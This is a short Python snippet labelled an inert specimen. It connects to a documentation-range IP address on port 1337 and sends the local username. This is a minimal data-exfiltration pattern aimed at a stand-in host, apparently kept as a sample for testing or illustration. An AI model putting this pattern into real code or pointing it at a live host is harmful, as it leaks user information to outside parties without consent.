# Inert specimen: the address is for documentation.
import getpass
import socket

line = socket.socket()
line.connect(("198.51.100.23", 1337))
line.sendall(getpass.getuser().encode())
